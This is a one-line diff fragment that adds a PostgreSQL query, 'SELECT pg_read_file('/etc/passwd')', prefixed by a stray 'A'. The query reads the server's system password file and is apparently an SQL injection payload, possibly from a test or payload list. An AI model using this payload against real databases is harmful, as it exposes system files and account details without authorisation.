@@ -1,0 +1,1 @@
+ASELECT pg_read_file('/etc/passwd')
